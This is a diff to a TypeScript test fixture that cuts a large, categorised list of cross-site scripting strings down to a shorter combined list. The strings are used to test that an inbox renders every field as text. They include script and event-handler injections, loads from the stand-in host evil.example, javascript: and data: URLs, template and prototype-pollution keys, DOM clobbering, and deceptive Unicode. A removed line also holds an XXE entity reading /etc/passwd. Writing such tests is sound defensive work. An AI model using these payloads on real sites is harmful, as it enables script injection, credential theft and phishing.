@@ -1,253 +1,63 @@
 import { isWellFormed } from '../../../policy/contracts/canonical-json';
 
 /**
- * Strings that run `xss()`, load something from another host, or change the page, if a page renders them as anything but text. By
- * family; each string is written once and placed in every field that reaches the inbox.
+ * Strings that run `xss()`, load something from another host, or change the page, if a page renders them as anything but text. Each is
+ * written once and placed in every field that reaches the inbox.
  */
-const ELEMENTS = [
+export const SCRIPT_STRINGS: readonly string[] = [
+  // Elements
   '<script>xss()</script>',
-  '<SCRIPT>xss()</SCRIPT>',
-  '<script src=//evil.example/x.js></script>',
-  '<script src=data:text/javascript,xss()></script>',
-  '<script type=module>import("data:text/javascript,xss()")</script>',
-  '</script><script>xss()</script>',
   '</title><script>xss()</script>',
-  '</textarea><script>xss()</script>',
-  '</style><script>xss()</script>',
   '--><script>xss()</script>',
-  '<!--><script>xss()</script>-->',
-  ']]><script>xss()</script>',
-  '<scr<script>ipt>xss()</scr</script>ipt>',
-  '<script/xss>xss()</script>',
-  '<script\n>xss()</script\n>',
-  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
-  '<template><img src=x onerror=xss()></template>',
-  '<iframe src=javascript:xss()></iframe>',
   '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
-  '<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;">',
-  '<object data=javascript:xss()></object>',
-  '<object data="data:text/html,<script>opener.xss()</script>"></object>',
-  '<embed src=javascript:xss()>',
-  '<embed code=//evil.example/x.swf>',
   '<base href=//evil.example/>',
-  '<base href="javascript:xss()//">',
-  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
   '<meta http-equiv=refresh content="0;url=//evil.example/">',
   '<link rel=stylesheet href=//evil.example/x.css>',
-  '<link rel=import href=data:text/html,<script>xss()</script>>',
-  '<link rel=prefetch href=//evil.example/p>',
   '<form action=javascript:xss()><button autofocus>Confirm</button></form>',
-  '<form action=//evil.example/><input name=password autofocus></form>',
-  '<applet code=xss.class></applet>',
-  '<portal src=javascript:xss()></portal>',
-] as const;
-
-const HANDLERS = [
+  // Handlers
   '<img src=x onerror=xss()>',
-  '<img src=x onerror="xss()">',
-  "<img src=x onerror='xss()'>",
-  '<img src=x onerror=xss``>',
-  '<IMG SRC=x OnErRoR=xss()>',
-  '<img/src=x/onerror=xss()>',
-  '<img src=x onerror=&#120;ss()>',
-  '<img src=x onerror=\\u0078ss()>',
-  '<img src=x:x onerror=eval("xss()")>',
-  '<img src=x onerror=window["xss"]()>',
-  '<img src=x onerror=setTimeout("xss()")>',
-  '<img src=x onerror=Function("xss()")()>',
-  '<img src onerror=xss()>',
-  '<img src=x\tonerror=xss()>',
   '<img src=x\nonerror=xss()>',
-  '<img src="x` `<script>xss()</script>"` `>',
-  '<image src=x onerror=xss()>',
-  '<body onload=xss()>',
-  '<body onpageshow=xss()>',
-  '<body onhashchange=xss()><a href=#x>',
   '<input autofocus onfocus=xss()>',
-  '<input onblur=xss() autofocus><input autofocus>',
-  '<select autofocus onfocus=xss()>',
-  '<textarea autofocus onfocus=xss()>',
-  '<keygen autofocus onfocus=xss()>',
-  '<button autofocus onfocus=xss()>',
-  '<video src=x onerror=xss()></video>',
-  '<video><source onerror=xss()></video>',
-  '<audio src=x onerror=xss()>',
   '<details open ontoggle=xss()>',
-  '<marquee onstart=xss()>',
-  '<div onpointerenter=xss() style=position:fixed;inset:0>',
-  '<div style="animation-name:x" onanimationstart=xss()>',
-  '<style>@keyframes x{}</style><p style="animation:x" onanimationend=xss()>',
-  '<div contenteditable autofocus onfocus=xss()>',
-  '<a onmouseover=xss() href=#>Confirm</a>',
-  '<dialog open onclose=xss()><form method=dialog><button autofocus>',
-  '<xss id=x tabindex=1 onfocus=xss()></xss>',
-  '<p onscrollend=xss() style=overflow:scroll>',
-  '<input type=image src=x onerror=xss()>',
-] as const;
-
-const ATTRIBUTES = [
+  // Attributes
   '" onmouseover="xss()',
-  "' onmouseover='xss()",
-  '" autofocus onfocus="xss()',
   "' autofocus onfocus='xss()",
-  '" onerror="xss()" src="x',
-  '"><img src=x onerror=xss()>',
-  "'><img src=x onerror=xss()>",
   '"><svg onload=xss()>',
-  "'><svg onload=xss()>",
-  '`><img src=x onerror=xss()>',
-  '" style="position:fixed;inset:0;background:red',
   '" href="javascript:xss()',
-  '" formaction="javascript:xss()',
-  '" srcdoc="<script>parent.xss()</script>',
-  '" is="x-xss" onfocus="xss()',
-  'x onclick=xss()',
-  'x/onclick=xss()//',
   '&quot; onclick=&quot;xss()',
-  '&#34;&gt;&lt;img src=x onerror=xss()&gt;',
-  '\\" onclick=\\"xss()',
-  '" ping="//evil.example/p',
-] as const;
-
-const VECTORS = [
+  // Elements of other namespaces
   '<svg onload=xss()>',
-  '<svg/onload=xss()>',
-  '<svg><script>xss()</script></svg>',
-  '<svg><script href=data:,xss() />',
-  '<svg><script>&#120;ss()</script></svg>',
   '<svg><a xlink:href=javascript:xss()><text y=20>Confirm</text></a></svg>',
-  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
-  '<svg><set attributeName=onmouseover to=xss()>',
-  '<svg><animate xlink:href=#x attributeName=href values=javascript:xss() /><a id=x><text y=20>x</text></a></svg>',
-  '<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></foreignObject></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss()</script></svg>#x">',
   '<svg><image href=//evil.example/i.svg></svg>',
-  '<svg><style><img src=x onerror=xss()></style></svg>',
-  '<svg><title><![CDATA[</title><script>xss()</script>]]></svg>',
-  '<svg><desc><script>xss()</script></desc></svg>',
   '<math><mtext><script>xss()</script></mtext></math>',
-  '<math href=javascript:xss()>Confirm</math>',
-  '<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>',
-  '<math><annotation-xml encoding=text/html><img src=x onerror=xss()></annotation-xml></math>',
-  '<math><mi//xlink:href="data:x,<script>xss()</script>">',
-  '<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>',
-  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>xss()</script></x>',
-  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
-  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">xss()</x:script>',
-] as const;
-
-const ADDRESSES = [
+  // Addresses
   'javascript:xss()',
-  'JaVaScRiPt:xss()',
-  ' javascript:xss()',
-  '\tjava\tscript:xss()',
   'java\nscript:xss()',
-  'javascript&colon;xss()',
-  '&#106;avascript:xss()',
-  'javascript://evil.example/%0Axss()',
-  'javascript:/*--></title></style></textarea></script><svg/onload=xss()>*/',
   'data:text/html,<script>opener.xss()</script>',
-  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKCk8L3NjcmlwdD4=',
-  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"/>',
-  'vbscript:xss()',
-  'blob:null/xss',
-  'view-source:javascript:xss()',
   '//evil.example/xss',
-  '/\\evil.example/xss',
-  'https:evil.example',
-  'https://localhost@evil.example/',
   '../../../../inbox/api/logout',
   '#enroll=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
-  '#/review/../../evil',
-] as const;
-
-const TEMPLATES = [
+  // Templates, and names of members that every object has
   '{{constructor.constructor("xss()")()}}',
-  '{{7*7}}',
   '${xss()}',
-  '`${xss()}`',
-  '#{xss()}',
-  '<%= xss() %>',
-  '[[${xss()}]]',
-  '{xss()}',
-  '"+xss()+"',
-  "'-xss()-'",
-  '\\";xss();//',
-  "';xss();//",
   '\u2028xss()\u2029',
-  '});xss();({',
-  '{"__html":"<img src=x onerror=xss()>"}',
   '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=xss()>"}}',
-  '{"type":"script","props":{"children":"xss()"},"key":null,"ref":null,"__v":1}',
   '__proto__',
   'constructor',
-  '{"__proto__":{"xss":true}}',
-] as const;
-
-const STYLES = [
+  // Styles
   '<style>*{background:url(//evil.example/s)}</style>',
-  '<style>@import "//evil.example/x.css";</style>',
-  '<p style="background:url(//evil.example/s)">x</p>',
   '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Approved by security</p>',
-  'red;}body{display:none}',
-  '*/}body{background:url(javascript:xss())}/*',
-  'expression(xss())',
-  '</style><img src=x onerror=xss()>',
-] as const;
-
-/** A property of `document` or `window` that a page reads, taken over by an element with this name. */
-const CLOBBERING = [
-  '<a id=xss href=javascript:xss()>',
-  '<form id=document><input name=cookie>',
+  // A property of `document` or `window` that a page reads, taken over by an element with this name
   '<img name=getElementById>',
-  '<img name=querySelector>',
-  '<a id=location href=//evil.example/>',
   '<form name=body><input id=innerHTML>',
-  '<iframe name=fetch srcdoc=x></iframe>',
-  '<a id=defaultView><a id=defaultView name=trustedTypes href=//evil.example/>',
-] as const;
-
-/** Not code, but text that hides, reorders or imitates what a person reads. */
-const DECEPTIVE = [
+  // Text that hides, reorders or imitates what a person reads
   '\u202exss()\u202c',
-  '\u2066<script>\u2069xss()',
-  'con\u200bfirm',
-  '\u200b\u200c\u200d\ufeff',
-  '\ufeff<script>xss()</script>',
   '\u0000<script>xss()</script>',
-  '\uff1cscript\uff1exss()\uff1c/script\uff1e',
-  '\u02c2img src=x onerror=xss()\u02c3',
-  '<\u0130mg src=x onerror=xss()>',
-  '\u001b]8;;javascript:xss()\u0007Confirm\u001b]8;;\u0007',
-  '\u001b[2J\u001b[31mAPPROVED',
   '\ud800<script>xss()</script>',
-  '\u{e0001}\u{e0078}\u{e0073}\u{e0073}',
-  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
-  'confirm\u00aded by alice',
-] as const;
-
-/** Long text: with a limit on it, the cut must not create an element. */
-const LONG = [
+  '\u001b]8;;javascript:xss()\u0007Confirm\u001b]8;;\u0007',
+  // Long text: with a limit on it, the cut must not create an element
   `${'A'.repeat(1_000)}<img src=x onerror=xss()>`,
-  `<img src=x onerror=xss() alt="${'A'.repeat(1_000)}">`,
-  `${'<b>'.repeat(400)}<img src=x onerror=xss()>`,
-  `${'&lt;'.repeat(250)}script&gt;xss()`,
-  `${'\u202e'.repeat(500)}xss()`,
-  `${'W'.repeat(1_500)}`,
-] as const;
-
-export const SCRIPT_STRINGS: readonly string[] = [
-  ...ELEMENTS,
-  ...HANDLERS,
-  ...ATTRIBUTES,
-  ...VECTORS,
-  ...ADDRESSES,
-  ...TEMPLATES,
-  ...STYLES,
-  ...CLOBBERING,
-  ...DECEPTIVE,
-  ...LONG,
+  'W'.repeat(1_500),
 ];
 
 /** For fields that are stored as UTF-8 text in PostgreSQL: without U+0000 and lone surrogates, at most `bytes` long, distinct. */
